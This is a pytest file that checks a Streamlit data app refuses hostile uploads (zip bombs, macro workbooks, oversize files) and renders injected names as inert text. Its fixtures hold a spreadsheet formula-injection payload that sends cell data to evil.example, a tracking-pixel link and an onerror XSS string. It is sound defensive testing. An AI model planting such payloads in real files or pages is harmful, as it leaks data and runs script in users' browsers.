"""The Data page refuses hostile uploads with one clear line: a zip bomb, a macro workbook,
an oversize file, too many files. Nothing of them reaches the workspace."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from streamlit.testing.v1 import AppTest

from reltruth.ingest import guard

ROOT = Path(__file__).resolve().parents[2]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _workbook(extra: dict[str, bytes]) -> bytes:
    wb = openpyxl.Workbook()
    wb.active.append(["Account", "Potential"])
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            if info.filename not in extra:
                zf.writestr(info.filename, src.read(info.filename))
        for name, data in extra.items():
            zf.writestr(name, data)
    return out.getvalue()


@pytest.fixture
def data_page(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> AppTest:
    monkeypatch.setenv("RELTRUTH_MODE", "demo")
    monkeypatch.chdir(ROOT)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    assert not at.exception
    return at


def _errors_after_upload(at: AppTest, files: list[tuple[str, bytes, str]]) -> list[str]:
    at.file_uploader(key="data_upload").set_value(files)
    at.run()
    assert not at.exception, at.exception
    return [e.value for e in at.error]


def test_a_zip_bomb_is_refused(data_page: AppTest) -> None:
    bomb = _workbook({"xl/worksheets/sheet1.xml": b"<c><v>0</v></c>" * (2 * 1024 * 1024)})
    errors = _errors_after_upload(data_page, [("accounts.xlsx", bomb, XLSX)])
    assert any("accounts.xlsx" in e and "zip bomb" in e for e in errors), errors
    assert "data_load" not in _keys(data_page)  # nothing to load


def test_a_macro_workbook_is_refused(data_page: AppTest) -> None:
    book = _workbook({"xl/vbaProject.bin": b"macro"})
    errors = _errors_after_upload(data_page, [("accounts.xlsx", book, XLSX)])
    assert any("contains macros" in e for e in errors), errors


def test_an_oversize_upload_is_refused(data_page: AppTest, monkeypatch: pytest.MonkeyPatch) -> None:
    # The server stops files over server.maxUploadSize in the browser; the page repeats it.
    monkeypatch.setattr(guard, "MAX_UPLOAD_MB", 1)
    big = b"Account ID,Account Name\n" + b"C1,Northwind\n" * 120_000
    errors = _errors_after_upload(data_page, [("accounts.csv", big, "text/csv")])
    assert any(e == "accounts.csv is 1.5 MB; the upload limit is 1 MB per file." for e in errors), (
        errors
    )


def test_too_many_files_are_refused(data_page: AppTest, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guard, "MAX_FILES", 2)
    files = [(f"f{i}.csv", b"a,b\n1,2\n", "text/csv") for i in range(3)]
    errors = _errors_after_upload(data_page, files)
    assert any("too many" in e for e in errors), errors


def _keys(at: AppTest) -> set[str]:
    return {b.key for b in at.button if b.key}


# A rep and an account whose names are attacks on whoever opens a download or a page.
FORMULA_REP = '=HYPERLINK("http://evil.example/?"&A1,"details")'
MARKUP_ACCOUNT = "![x](http://evil.example/pixel.png) <img src=x onerror=alert(1)> @SUM(A1)"
# Markdown that would make the browser fetch or link elsewhere: an image or a link.
LIVE_MARKDOWN = re.compile(r"(?<!\\)\]\((?:https?|javascript):", re.IGNORECASE)


@pytest.mark.slow
def test_payload_names_are_text_in_every_download_and_page(sample_workspace, make_app) -> None:  # type: ignore[no-untyped-def]
    from apptest_helpers import PAGES, open_page, texts
    from test_isolation import _capture_downloads, _unzipped

    with sample_workspace.transaction() as con:
        con.execute("update reps set rep_name = $n where rep_id = 'R01'", {"n": FORMULA_REP})
        con.execute(
            "update accounts set account_name = $n where account_id = "
            "(select min(account_id) from accounts where owner_rep_id = 'R01')",
            {"n": MARKUP_ACCOUNT},
        )
    monkeypatch = pytest.MonkeyPatch()
    try:
        downloads = _capture_downloads(monkeypatch)
        at = make_app()
        offered: list[bytes] = []
        for page in PAGES:
            downloads.clear()
            open_page(at, page, sidebar_rep="R01")
            offered += [_unzipped(d) for d in downloads]
            for text in texts(at):
                assert not LIVE_MARKDOWN.search(text), f"{page} renders a live link: {text!r}"
    finally:
        monkeypatch.undo()
    csvs = [d.decode("utf-8-sig") for d in offered if d.startswith(b"\xef\xbb\xbf")]
    assert any("HYPERLINK" in c for c in csvs), "no download carried the payload rep"
    for text in csvs:
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or _is_number(cell), cell
    sheets = [d for d in offered if b"<html" in d[:500].lower()]
    markdowns = [d.decode("utf-8", "replace") for d in offered if d.startswith(b"# ")]
    assert sheets and markdowns, "the coaching sheet's downloads were not captured"
    for html in sheets:
        assert b"<img src=x" not in html
        assert b'http://evil.example/pixel.png"' not in html  # never an attribute value
    for md in markdowns:
        assert not LIVE_MARKDOWN.search(md), "a live link in the Markdown sheet"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
